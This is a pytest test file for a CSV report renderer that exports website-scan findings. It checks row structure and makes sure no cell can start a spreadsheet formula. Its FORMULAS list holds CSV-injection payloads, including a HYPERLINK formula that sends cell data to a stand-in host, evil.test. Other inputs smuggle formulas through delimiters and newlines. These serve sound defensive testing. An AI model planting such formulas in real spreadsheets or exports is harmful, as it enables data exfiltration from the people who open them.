"""The table as a spreadsheet reads it, whichever of comma and semicolon parts its cells."""

import csv
import re
from dataclasses import replace
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

import reports.csv
from reports.csv import Row, cell, render
from scanner.scan import Scan
from tests.reports.scans import BLOCKED, CLEAR, FINAL_DATE, MEDSPA, PAGES
from tests.reports.test_injection import CORPUS, UNSEEN, filled

STARTS = tuple("=+-@\t\r\0＝＋－＠﹢﹣﹦﹫−")
FORMULAS = (
    "=1+1",
    "+14155550132",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\0=1",
    " =1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=HYPERLINK(\"https://evil.test/?\"&A1,\"more\")",
    "x;=1+1",
    'x;"=1+1"',
    "x; \t@SUM(A1);-1",
    'x","=1+1',
    'x"\r\n"=1+1","y',
    "x\n=1+1",
)  # fmt: skip


def rows(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def table(scan: Scan) -> list[dict[str, str]]:
    head, *lines = rows(render(scan, final_date=FINAL_DATE))
    return [dict(zip(head, line, strict=True)) for line in lines]


def test_a_row_says_all_of_a_finding_on_one_page() -> None:
    assert next(row for row in table(MEDSPA) if row["ref"] == "R-10") == {
        "type": "trace",
        "ref": "R-10",
        "what": "Payment link",
        "page": "https://willowmedspa.example/gift-cards/",
        "severity": "breaks",
        "confidence": "certain",
        "state": "live",
        "edit": "Pages › Gift cards › Edit with Elementor",
        "container": "Button 61d00aa under the heading “Give a glow”",
        "builder": "WordPress with Elementor",
        "value": "89abcdef0123456789abcdef",
        "address": "https://link.radiancesuite.example/payment-link/89abcdef0123456789abcdef",
        "link_text": "Buy a gift card",
        "excerpt": '<a class="elementor-button" href="https://link.radiancesuite.example/payment-link/'
        '89abcdef0123456789abcdef">Buy a gift card</a>',
        "locator": "div.elementor-element-61d00aa a",
        "seen_in": "html",
        "seen_at": "https://willowmedspa.example/gift-cards/",
        "note": "",
        "remedy": "Lead the button to the shop or payment service that stays",
        "first_step": "Open Pages › Gift cards › Edit with Elementor and select the button 61d00aa.",
        "edited_in": "page",
        "kind": "payment",
        "how": "link",
        "signature": "highlevel/payment-link",
        "fingerprint": "c1d2e3f4a5b60010",
    }


def test_every_finding_has_a_row_for_each_of_its_pages() -> None:
    found = [(row["ref"], row["page"]) for row in table(MEDSPA) if row["ref"]]
    assert found == [(one.ref, page) for one in MEDSPA.findings for page in one.placement.pages or ("",)]


def test_an_excerpt_stands_with_the_page_it_was_read_on_and_never_nowhere() -> None:
    shown = [row for row in table(MEDSPA) if row["excerpt"]]
    assert {row["ref"] for row in shown} == {finding.ref for finding in MEDSPA.findings}
    assert all(row["seen_at"] == row["page"] for row in shown)
    moved = replace(MEDSPA.findings[0].evidence[0], page="https://willowmedspa.example/app.js")
    finding = replace(MEDSPA.findings[0], evidence=(moved,))
    first, *others = [row for row in table(replace(MEDSPA, findings=(finding,))) if row["ref"]]
    assert (first["page"], first["seen_at"]) == (PAGES[0], moved.page)
    assert not any(row["excerpt"] for row in others)


def test_a_table_without_a_trace_does_not_look_clear_unless_it_is() -> None:
    assert [(row["type"], row["what"]) for row in table(CLEAR)] == [
        ("scan", "Clear: no trace of the CRM at any of the 41 addresses of this site.")
    ]
    head, *gaps = table(BLOCKED)
    assert head["what"] == "Not proven clear: 0 of 8 addresses could be checked."
    assert {row["type"] for row in gaps} == {"not read"}
    assert [row["page"] for row in gaps] == [entry.url for entry in BLOCKED.coverage.unread]


def test_links_and_names_that_were_not_seen_have_rows() -> None:
    others = [(row["type"], row["value"] or row["address"], row["page"]) for row in table(MEDSPA)]
    assert others[-5:] == [
        ("not looked up", "shop.willowmedspa.example", ""),
        ("broken link", "https://friends.example/spa-day", "https://willowmedspa.example/"),
        ("broken link", "https://friends.example/spa-day", "https://willowmedspa.example/about/"),
        ("broken link", "https://short.example/aB3", "https://willowmedspa.example/blog/"),
        ("link not checked", "https://bit.ly/3aB", "https://willowmedspa.example/vip/"),
    ]


def test_what_goes_beyond_a_spreadsheet_is_left_out_of_every_finding_and_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reports.csv, "MOST", 2 * len(MEDSPA.findings))
    lines = [row for row in table(MEDSPA) if row["ref"]]
    assert [row["page"] for row in lines if row["ref"] == "R-01"] == [*PAGES[:2], ""]
    assert [row["note"] for row in lines if row["ref"] == "R-01"][-1] == "and 39 more pages, all of them in scan.json"
    assert {row["ref"] for row in lines} == {finding.ref for finding in MEDSPA.findings}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_starts_a_formula(text: str) -> None:
    assert not cell(text).startswith(STARTS)
    said = render(filled(text), final_date=FINAL_DATE)
    cells = [one for delimiter in ",;" for line in rows(said, delimiter) for one in line]
    assert [one for one in cells if one.lstrip(' "').startswith(STARTS)] == []


@pytest.mark.parametrize("payload", CORPUS)
def test_no_payload_makes_a_cell_a_row_or_a_control_character(payload: str) -> None:
    said = render(filled(payload), final_date=FINAL_DATE)
    read = rows(said)
    assert {len(line) for line in read} == {len(Row.__slots__)}
    assert len(read) == len(rows(render(filled("https://evil.test/"), final_date=FINAL_DATE)))
    assert said.encode()
    assert not UNSEEN.search(said.removeprefix("\ufeff").replace("\r\n", "\n"))
    assert not any(one.startswith(STARTS) for line in read for one in line)
    assert not re.search(r"^\s*::|##\w*\[", said, re.MULTILINE)


@given(st.text(st.characters(codec=None, exclude_categories=()), max_size=60))
def test_any_text_is_a_cell_that_calculates_nothing(text: str) -> None:
    said = cell(text)
    assert said.encode().decode() == said
    assert "\n" not in said
    parts = next(csv.reader([f"x{said}"], delimiter=";"))[1:]
    assert not any(part.lstrip().startswith(STARTS) for part in (said, *parts))
